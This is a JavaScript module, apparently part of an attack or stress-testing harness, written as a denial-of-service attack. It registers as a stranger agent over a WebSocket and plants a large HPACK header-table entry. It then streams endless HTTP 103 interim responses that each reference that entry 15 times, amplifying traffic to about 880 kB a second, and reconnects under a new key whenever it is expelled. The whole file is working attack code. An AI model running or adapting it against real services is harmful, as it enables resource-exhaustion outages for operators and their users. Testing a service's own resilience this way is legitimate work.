// Agents that answer with interim responses without end, each of which refers 15 times to one large entry of the HPACK table:
// 880 kB a second. One that is sent away comes back with a new key.
import { get } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import { runAttack } from './attack.js';
import { field, frame, headers, indexedField, newestField, types } from './frames.js';
import { joinAsStranger } from './strange-agent.js';

const bytesPerSecond = 880_000;
const perSecond = 50;
const streamId = 1;

const entry = headers(streamId, [field(':status', '103'), indexedField('x', 'a'.repeat(4000))]);
const interim = headers(streamId, [field(':status', '103'), newestField(15)]);
const count = Math.ceil(bytesPerSecond / perSecond / interim.length);
const burst = Buffer.concat(Array.from({ length: count }, () => interim));

/** @type {import('ws').WebSocket | undefined} */
let socket;
let isJoining = false;

await runAttack({
  perSecond,
  begin: join,
  strike: (attack) => {
    if (socket?.readyState === 1) {
      socket.send(burst);
      attack.count('burst');
    } else if (!isJoining) void join(attack);
  },
});

/** @param {import('./attack.js').Attack} attack */
async function join(attack) {
  isJoining = true;
  const joined = await joinAsStranger(attack.url, { origin: attack.origin });
  attack.count(joined.answer);
  if (joined.answer === 'welcome') {
    joined.socket.send(frame(types.settings, 0, 0));
    // An accomplice opens the stream.
    get(`${attack.url}/${joined.name}`, (response) => response.resume()).on('error', () => attack.count('lost'));
    await pause(100);
    joined.socket.send(entry);
    socket = joined.socket;
  }
  isJoining = false;
}
